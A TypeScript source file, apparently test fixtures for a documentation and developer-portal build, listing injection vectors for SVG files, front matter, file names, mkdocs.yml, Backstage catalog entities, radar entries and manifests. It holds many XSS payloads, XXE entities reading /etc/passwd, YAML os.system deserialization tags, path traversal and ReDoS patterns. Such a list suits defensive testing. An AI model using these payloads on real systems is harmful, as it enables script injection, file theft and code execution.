// What stands around the pages: drawings, front matter, file names, mkdocs.yml, navs, redirects, decisions, the catalog and the radar.
import type { Family } from '../vector.ts';

const r = String.raw;
const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${content}</svg>`;

/** SVG files that a page shows, and that can be opened by themselves, where no policy stands on them. */
export const DRAWINGS: Family = {
  family: 'SVG file',
  rows: [
    ['script', svg('<script>@js</script>')],
    ['script in CDATA', svg('<script><![CDATA[@js]]></script>')],
    ['script by link', svg('<script href="@url.js"/><script xlink:href="data:text/javascript,@js"/>')],
    ['script of XHTML', svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">@js</x:script>')],
    ['script of a prefix', `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>@js</s:script></s:svg>`],
    ['handler', svg('<rect width="9" height="9" onclick="@js" onmouseover="@js"/>', 'onload="@js"')],
    [
      'handler of a prefix',
      svg('<rect ev:event="load" handler="@js" width="9" height="9"/>', 'xmlns:ev="http://www.w3.org/2001/xml-events"'),
    ],
    [
      'foreign content',
      svg('<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.@js"/></foreignObject>'),
    ],
    ['foreign content of HTML', svg('<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="@js"/></foreignObject>')],
    ['link', svg('<a href="javascript:@js"><rect width="9" height="9"/></a>')],
    ['link of XLink', svg('<a xlink:href="javascript:@js" target="_top"><rect width="9" height="9"/></a>')],
    ['animated link', svg('<a><set attributeName="href" to="javascript:@js"/><rect width="9" height="9"/></a>')],
    ['animated handler', svg('<rect><animate attributeName="onclick" values="@js"/></rect>')],
    ['animation that begins', svg('<animate onbegin="@js" attributeName="x" dur="1s"/>')],
    ['use of data', svg(`<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>@js</script></svg>#x"/>`)],
    ['use from elsewhere', svg('<use xlink:href="@url.svg#x"/>')],
    ['image from elsewhere', svg('<image href="@url.png" width="9" height="9"/><feImage href="@url.png"/>')],
    ['image of a drawing', svg(`<image href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@js'/>"/>`)],
    ['style from elsewhere', svg('<style>@import url(@url.css); rect { fill: url(@url.svg#x) }</style>')],
    ['style with escapes', svg(r`<style>rect { fill: \75rl(@url.svg#x); background: u\72l(@url.png) }</style>`)],
    ['style with image-set', svg('<style>rect { mask: image-set("@url.png" 1x); cursor: -webkit-image-set("@url.png" 1x), auto }</style>')],
    ['style that ends early', svg('<style></style><script>@js</script></style>')],
    ['style of an element', svg('<rect style="fill:url(@url.svg#x);background:url(@url.png)" width="9" height="9"/>')],
    ['style sheet by instruction', `<?xml version="1.0"?><?xml-stylesheet href="@url.css" type="text/css"?>${svg('<rect/>')}`],
    [
      'style sheet of XSLT',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,<x:stylesheet xmlns:x='http://www.w3.org/1999/XSL/Transform' version='1.0'><x:template match='/'><script xmlns='http://www.w3.org/1999/xhtml'>@js</script></x:template></x:stylesheet>"?>${svg('<rect/>')}`,
    ],
    ['entity', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>@js</script>">]>${svg('&x;')}`],
    [
      'entity from elsewhere',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "@url.dtd"> %y;]>${svg('<text>&x;</text>')}`,
    ],
    ['attribute by DTD', `<?xml version="1.0"?><!DOCTYPE svg [<!ATTLIST svg onload CDATA "@js">]>${svg('<rect/>')}`],
    ['base', svg('<a xml:base="javascript:@js//" href="#"><rect width="9" height="9"/></a>')],
    [
      'filter from elsewhere',
      svg('<rect filter="url(@url.svg#x)" clip-path="url(@url.svg#y)" mask="url(//@host.svg#z)" fill="url(@url.svg#w)"/>'),
    ],
    ['HTML before', `<html><body onload="@js"><script>@js</script>${svg('<rect/>')}`],
    ['HTML within', svg('<p><img src=x onerror=@js></p>')],
    ['comment', svg('<!--><script>@js</script>-->')],
    ['title', svg('<title><style><img src=x onerror=@js></style></title><desc><script>@js</script></desc>')],
    ['text', svg('<text>&lt;script&gt;@js&lt;/script&gt;</text>')],
    [
      'another encoding',
      '<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns+AD0AIg-http://www.w3.org/2000/svg+ACI- onload+AD0AIg-@js+ACI-/+AD4-',
    ],
    ['no drawing', '<script>@js</script>'],
    ['refresh', svg('<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=@url"/>')],
  ],
};

/** Front matter of pages: everything between the two lines. */
export const FRONT_MATTER: Family = {
  family: 'Front matter',
  rows: [
    ['title', `title: '</title><script>@js</script>'`],
    ['title with a quote', `title: '" onclick="@js'`],
    ['title that is a list', 'title: [<img src=x onerror=@js>, <svg onload=@js>]'],
    ['title that is a mapping', `title: { toString: "@js", __proto__: { x: "<img src=x onerror=@js>" } }`],
    ['description', `description: '"><meta http-equiv=refresh content="0;url=@url"><script>@js</script>'`],
    ['tags', `tags: ['<img src=x onerror=@js>', '" onclick="@js', [x], { y: z }, 7, null, true]`],
    ['icon and template', `icon: '"><script>@js</script>'\ntemplate: ../../evil.html\nhide: ['<img src=x onerror=@js>']`],
    ['status and authors', `status: '<script>@js</script>'\nauthors: ['<img src=x onerror=@js>']\nslug: '"><script>@js</script>'`],
    ['redirect', 'redirect: javascript:@js\nredirect_from: javascript:@js\ncanonical: "@url"\npermalink: //@host'],
    ['scripts', 'extra_javascript: ["@url.js"]\nextra_css: ["@url.css"]\nhead: "<script>@js</script>"'],
    ['tag of Python', '!!python/object/apply:os.system ["touch /tmp/hacked"]'],
    ['names of the prototype', '__proto__: { title: "<script>@js</script>" }\nconstructor: { name: x }\nprototype: x\ntitle: x'],
    ['end of a script', 'title: "</script><script>@js</script><!--"'],
    ['marks of a text', 'title: "**x** [y](javascript:@js) `z`"'],
  ],
};

/** Names of pages. A slash cannot stand in them. */
export const FILE_NAMES: Family = {
  family: 'File name',
  rows: [
    ['element', '<img src=x onerror=@js>.md'],
    ['script', '<script>@js<script>.md'],
    ['quote', '" onclick="@js.md'],
    ['single quote', "' onclick='@js.md"],
    ['scheme', 'javascript:@js.md'],
    ['entities', '&lt;img src=x onerror=@js&gt;.md'],
    ['percent signs', '%3Cimg src=x onerror=@js%3E %22 %2e%2e%2f.md'],
    ['dots', '..%2f..%2f@js.md'],
    ['question mark and hash', '?x=<svg onload=@js>#y.md'],
    ['backslashes', '..\\..\\@js.md'],
    ['brackets', '[x](javascript:@js).md'],
    ['directions', '\u202E<svg onload=@js>.md'],
    ['prototype', '__proto__.md'],
    ['constructor', 'constructor.md'],
  ],
};

/** Settings of a whole site: the lines of its mkdocs.yml. */
export const SITES: Family = {
  family: 'mkdocs.yml',
  rows: [
    ['site name', `site_name: '</title><script>@js</script>'`],
    ['site name with a quote', `site_name: '" onclick="@js'`],
    ['site description', `site_name: x\nsite_description: '"><script>@js</script>'`],
    ['repository', `site_name: x\nrepo_url: javascript:@js\nedit_uri: javascript:@js//`],
    ['repository with an edit template', `site_name: x\nrepo_url: https://example.org\nedit_uri_template: 'javascript:@js//{path}'`],
    ['repository of data', `site_name: x\nrepo_url: 'data:text/html,<script>@js</script>'\nedit_uri: ''`],
    ['edit with a quote', `site_name: x\nrepo_url: 'https://example.org/"onclick="@js'\nedit_uri: '" onclick="@js'`],
    ['nav title', `site_name: x\nnav:\n  - '<img src=x onerror=@js>': index.md\n  - '" onclick="@js': index.md`],
    [
      'nav address',
      `site_name: x\nnav:\n  - index.md\n  - x: javascript:@js\n  - y: 'data:text/html,<script>@js</script>'\n  - z: ' JaVaScRiPt:@js'\n  - w: "java\\tscript:@js"`,
    ],
    [
      'nav address that breaks out',
      `site_name: x\nnav:\n  - index.md\n  - x: 'https://example.org/"onclick="@js'\n  - y: //example.org/'onclick='@js`,
    ],
    [
      'nav section',
      `site_name: x\nnav:\n  - '<script>@js</script>':\n      - index.md\n  - __proto__:\n      - index.md\n  - constructor: index.md`,
    ],
    [
      'nav that is odd',
      `site_name: x\nnav:\n  - index.md\n  - [x, [y]]\n  - 7\n  - { a: { b: '<img src=x onerror=@js>' } }\n  - { '<svg onload=@js>': null }`,
    ],
    [
      'redirects',
      `site_name: x\nplugins:\n  - redirects:\n      redirect_maps:\n        old.md: javascript:@js\n        older.md: 'data:text/html,<script>@js</script>'\n        '"><img src=x onerror=@js>.md': index.md\n        oldest.md: 'https://example.org/"><script>@js</script>'`,
    ],
    [
      'redirect to itself',
      `site_name: x\nplugins:\n  - redirects:\n      redirect_maps:\n        ../../old.md: index.md\n        old.md: 'index.md#"><img src=x onerror=@js>'\n        x.md: ' javascript:@js'`,
    ],
    [
      'scripts and styles',
      `site_name: x\nextra_javascript: [evil.js, "@url.js"]\nextra_css: ["@url.css"]\nextra: { analytics: { provider: google, property: '<script>@js</script>' }, homepage: javascript:@js }`,
    ],
    [
      'theme',
      `site_name: x\ntheme: { name: material, custom_dir: ../.., logo: "@url.png", favicon: javascript:@js, font: { text: '"><script>@js</script>' } }`,
    ],
    [
      'hooks and plugins',
      `site_name: x\nhooks: [evil.py]\nplugins: !!python/object/apply:os.system ["touch /tmp/hacked"]\nmarkdown_extensions: !!python/name:os.system`,
    ],
    [
      'copyright',
      `site_name: x\ncopyright: '<script>@js</script>'\nsite_author: '<img src=x onerror=@js>'\nsite_url: javascript:@js\nrepo_name: '<svg onload=@js>'`,
    ],
    ['inherited', `INHERIT: ../../../../portal.yaml\nsite_name: '<img src=x onerror=@js>'`],
    [
      'patterns',
      `site_name: x\nexclude_docs: '<img src=x onerror=@js>'\nnot_in_nav: '(((((((((a+)+)+)+)+)+)+'\nwatch: ['<script>@js</script>']`,
    ],
  ],
};

/** `.nav.yml` files. */
export const NAV_FILES: Family = {
  family: '.nav.yml',
  rows: [
    ['title', `title: '</title><script>@js</script>'`],
    ['names', `nav:\n  - '<img src=x onerror=@js>': index.md\n  - '" onclick="@js': index.md`],
    ['addresses', `nav:\n  - index.md\n  - x: javascript:@js\n  - y: 'data:text/html,<script>@js</script>'`],
    ['sections', `nav:\n  - '<svg onload=@js>':\n      - index.md\n  - glob: '*<img src=x onerror=@js>*'`],
    ['patterns', `hide: ['<img src=x onerror=@js>']\nignore: '<script>@js</script>'\nsort: { by: '<svg onload=@js>' }`],
  ],
};

/** Architecture decisions: a file each. */
export const DECISIONS: Family = {
  family: 'Decision',
  rows: [
    ['title', '# 1. <img src=x onerror=@js>\n\nDate: 2026-01-01\n\n## Status\n\nAccepted'],
    ['title with a link', '# 2. [x](javascript:@js) `y` | z\n\n* Status: [x](javascript:@js)\n* Date: 2026-01-02'],
    ['status', '# 3. x\n\n* Status: <script>@js</script> | <svg onload=@js>\n* Date: 2026-01-03'],
    ['status of entities', '# 4. &lt;img src=x onerror=@js&gt;\n\n## Status\n\n&lt;script&gt;@js&lt;/script&gt;'],
    [
      'status by front matter',
      `---\nstatus: '"><img src=x onerror=@js>'\ndate: '2026-01-05<svg onload=@js>'\ntitle: '</a><script>@js</script>'\n---\n\n# 5. x`,
    ],
    ['status of Markdown', '# 6. ![x](@url.png)\n\n## Status\n\n![x](@url.png) <javascript:@js> https://example.org/"onclick="@js'],
    ['title that breaks a table', '# 7. x \\| <svg onload=@js> \\\\| `|` | <img src=x onerror=@js>\n\n## Status\n\n\\'],
    [
      'title of a colon',
      '# 8. x: :material-account:{ onclick="@js" } ==x== $\\href{javascript:@js}{y}$\n\n## Status\n\n--8<-- "evil.html"',
    ],
  ],
};

const entity = (kind: string, rest: string, apiVersion = 'backstage.io/v1alpha1') => `apiVersion: ${apiVersion}\nkind: ${kind}\n${rest}`;
const component = (metadata: string, spec = '{ type: service, lifecycle: production, owner: x }') =>
  entity('Component', `metadata:\n  name: v@id\n${metadata}\nspec: ${spec}`);

/** Entities: a document of a catalog file each. */
export const CATALOG: Family = {
  family: 'Entity',
  rows: [
    ['title', component(`  title: '</title><script>@js</script>'`)],
    ['title with a quote', component(`  title: '" onclick="@js'`)],
    [
      'description',
      component(
        '  description: |\n    <script>@js</script> <img src=x onerror=@js> [x](javascript:@js)\n    <svg onload=@js></svg> <iframe srcdoc="<script>parent.@js</script>"></iframe>',
      ),
    ],
    [
      'description from elsewhere',
      component('  description: "![x](@url.png) <img src=\'@url.png\'> <style>@import url(@url.css)</style>"'),
    ],
    [
      'description with attributes',
      component(`  description: 'x{: onclick="@js" } *y*{ #main .search-dialog } :material-account:{ onclick="@js" }'`),
    ],
    [
      'description with a diagram',
      component(
        '  description: |\n    ```mermaid\n    flowchart TD\n      A["<img src=x onerror=@js>"]\n      click A href "javascript:@js"\n    ```',
      ),
    ],
    [
      'description with a formula',
      component(String.raw`  description: '$\href{javascript:@js}{x}$ <code data-math="inline">\href{javascript:@js}{x}</code>'`),
    ],
    ['description with a graph', component('  description: |\n    ```dot\n    digraph { a [URL="javascript:@js"] }\n    ```')],
    [
      'links',
      component(
        `  links:\n    - { url: 'javascript:@js', title: '<img src=x onerror=@js>', icon: '"><script>@js</script>' }\n    - { url: 'data:text/html,<script>@js</script>', title: x }\n    - { url: 'JaVaScRiPt:@js', title: x }\n    - { url: 'vbscript:@js', title: x }`,
      ),
    ],
    [
      'links with odd signs',
      component(
        `  links:\n    - { url: "java\\tscript:@js", title: x }\n    - { url: " javascript:@js", title: x }\n    - { url: "\\x01javascript:@js", title: x }\n    - { url: 'https://example.org/"onclick="@js', title: '" onclick="@js', icon: '../x#y', type: '<svg onload=@js>' }`,
      ),
    ],
    [
      'links of other schemes',
      component(
        `  links:\n    - { url: 'blob:@url', title: x }\n    - { url: 'filesystem:@url', title: x }\n    - { url: 'view-source:javascript:@js', title: x }\n    - { url: 'intent:x#Intent;scheme=javascript;end', title: x }\n    - { url: 'feed:javascript:@js', title: x }`,
      ),
    ],
    ['tags', component(`  tags: ['<img src=x onerror=@js>', '" onclick="@js', 'javascript:@js', __proto__]`)],
    ['labels', component(`  labels: { x: '<script>@js</script>', '<img src=x onerror=@js>': y, __proto__: z, constructor: w }`)],
    [
      'annotations',
      component(
        `  annotations: { x: '<script>@js</script>', '<img src=x onerror=@js>': y, backstage.io/managed-by-location: 'url:javascript:@js' }`,
      ),
    ],
    [
      'annotations that become links',
      component(
        `  annotations:\n    backstage.io/view-url: javascript:@js\n    backstage.io/edit-url: 'data:text/html,<script>@js</script>'\n    backstage.io/source-location: url:javascript:@js\n    github.com/project-slug: '"><img src=x onerror=@js>'\n    gitlab.com/project-slug: 'javascript:@js'`,
      ),
    ],
    [
      'annotations of tools',
      component(
        `  annotations:\n    pagerduty.com/service-id: '"><script>@js</script>'\n    sonarqube.org/project-key: '<img src=x onerror=@js>'\n    grafana/dashboard-selector: 'javascript:@js'\n    jenkins.io/job-full-name: '../../x"onclick="@js'\n    backstage.io/techdocs-entity: '<svg onload=@js>'`,
      ),
    ],
    [
      'type and lifecycle',
      component(
        '',
        `{ type: '<svg onload=@js>', lifecycle: '"><script>@js</script>', owner: '"><img src=x onerror=@js>', system: '<svg onload=@js>' }`,
      ),
    ],
    [
      'relations',
      component(
        '',
        `{ type: x, lifecycle: y, owner: z, dependsOn: ['component:default/<img src=x onerror=@js>', 'javascript:@js', 'resource:"onclick="@js'], providesApis: ['<script>@js</script>'] }`,
      ),
    ],
    ['name', entity('Component', `metadata: { name: '<img src=x onerror=@js>' }\nspec: { type: x, lifecycle: y, owner: z }`)],
    [
      'namespace',
      entity('Component', `metadata: { name: v@id, namespace: '<script>@js</script>' }\nspec: { type: x, lifecycle: y, owner: z }`),
    ],
    ['kind', entity(`'<img src=x onerror=@js>'`, 'metadata: { name: v@id }\nspec: {}')],
    ['kind of the prototype', entity('__proto__', 'metadata: { name: v@id }\nspec: {}')],
    [
      'API definition',
      entity(
        'API',
        `metadata: { name: v@id }\nspec: { type: openapi, lifecycle: x, owner: y, definition: 'openapi: 3.1.0 # </code></pre><script>@js</script><img src=x onerror=@js>' }`,
      ),
    ],
    [
      'API of GraphQL',
      entity(
        'API',
        `metadata: { name: v@id }\nspec: { type: graphql, lifecycle: x, owner: y, definition: '"""<img src=x onerror=@js>""" type Query { x: Int @deprecated(reason: "</pre><svg onload=@js>") }' }`,
      ),
    ],
    [
      'API type',
      entity('API', `metadata: { name: v@id }\nspec: { type: '"><script>@js</script>', lifecycle: x, owner: y, definition: x }`),
    ],
    [
      'API definition from elsewhere',
      entity('API', 'metadata: { name: v@id }\nspec: { type: openapi, lifecycle: x, owner: y, definition: { $text: "@url.yaml" } }'),
    ],
    [
      'group',
      entity(
        'Group',
        `metadata: { name: v@id }\nspec: { type: '<svg onload=@js>', children: ['<img src=x onerror=@js>'], profile: { displayName: '<script>@js</script>', email: 'x@example.org?body="onclick="@js', picture: '@url.png' } }`,
      ),
    ],
    [
      'user',
      entity(
        'User',
        `metadata: { name: v@id }\nspec: { memberOf: [v@id], profile: { displayName: '</title><img src=x onerror=@js>', email: 'javascript:@js', picture: 'javascript:@js' } }`,
      ),
    ],
    [
      'user with a picture',
      entity(
        'User',
        `metadata: { name: v@id }\nspec: { memberOf: [], profile: { displayName: x, email: '"onclick="@js', picture: 'data:image/svg+xml,<svg onload=@js>' } }`,
      ),
    ],
    [
      'system',
      entity(
        'System',
        `metadata: { name: v@id, title: '<svg onload=@js>' }\nspec: { owner: '<img src=x onerror=@js>', domain: '" onclick="@js' }`,
      ),
    ],
    [
      'template',
      entity(
        'Template',
        `metadata: { name: v@id, title: '<script>@js</script>', tags: [x] }\nspec:\n  type: '<svg onload=@js>'\n  owner: x\n  parameters: [{ title: '<img src=x onerror=@js>', properties: { '<script>@js</script>': { type: string, title: '<svg onload=@js>', description: '[x](javascript:@js)', default: '" onclick="@js', 'ui:field': '<img src=x onerror=@js>' } } }]\n  steps: [{ id: x, name: '<img src=x onerror=@js>', action: 'javascript:@js', input: { url: 'javascript:@js' } }]\n  output: { links: [{ title: '<svg onload=@js>', url: 'javascript:@js' }], text: [{ title: x, content: '<script>@js</script>' }] }`,
        'scaffolder.backstage.io/v1beta3',
      ),
    ],
    [
      'location',
      entity(
        'Location',
        `metadata: { name: v@id }\nspec: { type: url, targets: ['javascript:@js', '@url/catalog-info.yaml', '<img src=x onerror=@js>', './"onclick="@js.yaml'] }`,
      ),
    ],
    [
      'resource',
      entity(
        'Resource',
        `metadata: { name: v@id, title: "\\u202E<svg onload=@js>", description: "\\u0000\\u001B<img src=x onerror=@js>" }\nspec: { type: database, owner: x }`,
      ),
    ],
    [
      'own fields',
      component(
        `  '<script>@js</script>': { '<img src=x onerror=@js>': ['<svg onload=@js>'] }`,
        `{ type: x, lifecycle: y, owner: z, '</pre><script>@js</script>': '</code><img src=x onerror=@js>' }`,
      ),
    ],
    ['title that ends a script', component(`  title: '</script><script>@js</script><!--'`)],
    ['bad document', `apiVersion: x\nkind: '<img src=x onerror=@js>'\nmetadata: [ '<script>@js</script>' `],
  ],
};

/** Entries of a radar: a file each. */
export const RADAR: Family = {
  family: 'Radar entry',
  rows: [
    ['title', `---\ntitle: '</title><script>@js</script>'\nquadrant: tools\nring: adopt\n---\n\nx`],
    ['title with a quote', `---\ntitle: '" onclick="@js'\nquadrant: tools\nring: adopt\n---\n\nx`],
    ['quadrant and ring', `---\ntitle: v@id\nquadrant: '<img src=x onerror=@js>'\nring: '<svg onload=@js>'\n---\n\nx`],
    [
      'owner and tags',
      `---\ntitle: v@id\nquadrant: tools\nring: trial\nowner: '"><script>@js</script>'\ntags: ['<img src=x onerror=@js>', '" onclick="@js']\n---\n\nx`,
    ],
    [
      'links',
      `---\ntitle: v@id\nquadrant: tools\nring: assess\nlinks: [{ title: '<script>@js</script>', url: 'javascript:@js' }, { title: x, url: 'data:text/html,<script>@js</script>' }, { title: x, url: "java\\tscript:@js" }]\n---\n\nx`,
    ],
    [
      'history',
      `---\ntitle: v@id\nquadrant: tools\nhistory: [{ date: 2026-01, ring: adopt, text: '<script>@js</script> [x](javascript:@js)' }, { date: '<svg onload=@js>', ring: '<img src=x onerror=@js>', text: '![x](@url.png)' }]\n---\n\nx`,
    ],
    [
      'text',
      '---\ntitle: v@id\nquadrant: tools\nring: hold\n---\n\n<script>@js</script> <img src=x onerror=@js> [x](javascript:@js) ![x](@url.png)\n\n<svg onload=@js></svg>\n\n# <img src=x onerror=@js> {#main onclick="@js"}',
    ],
    [
      'text with a diagram',
      '---\ntitle: v@id\nquadrant: tools\nring: hold\n---\n\n```mermaid\nflowchart TD\n  A["<img src=x onerror=@js>"]\n```\n\n```dot\ndigraph { a [URL="javascript:@js"] }\n```',
    ],
    [
      'names of the prototype',
      `---\ntitle: __proto__\nquadrant: constructor\nring: toString\n__proto__: { x: y }\ntags: [__proto__]\n---\n\n<img src=x onerror=@js>`,
    ],
    [
      'packages and match',
      `---\ntitle: v@id\nquadrant: tools\nring: hold\npackages: ['pkg:<img src=x onerror=@js>/a', '<script>@js</script>', 'pkg:npm/*']\nmatch: [{ annotation: x.example/evil }, { tag: '" onclick="@js' }]\n---\n\nx`,
    ],
    [
      'another id',
      `---\ntitle: v@id\nid: '"><img src=x onerror=@js>'\nslug: 'javascript:@js'\nquadrant: tools\nring: adopt\nmoved: '<svg onload=@js>'\nactive: '<script>@js</script>'\n---\n\nx`,
    ],
  ],
};

/** Manifests called package.json, each of a component whose annotation \`x.example/evil\` is an attack, too. */
export const MANIFESTS: Family = {
  family: 'Manifest',
  rows: [
    ['version', `{ "name": "v@id", "dependencies": { "v@id": "<script>@js</script>", "w@id": "\\" onclick=\\"@js" } }`],
    ['name', `{ "dependencies": { "<img src=x onerror=@js>": "1", "a\\" onclick=\\"@js": "1", "javascript:@js": "1", "__proto__": "1" } }`],
    [
      'name of itself',
      `{ "name": "<svg onload=@js>", "engines": { "node": "<svg onload=@js>" }, "packageManager": "pnpm@<img src=x onerror=@js>" }`,
    ],
    ['fault', `{ "dependencies": { "v@id": "1" }, <script>@js</script>`],
  ],
};
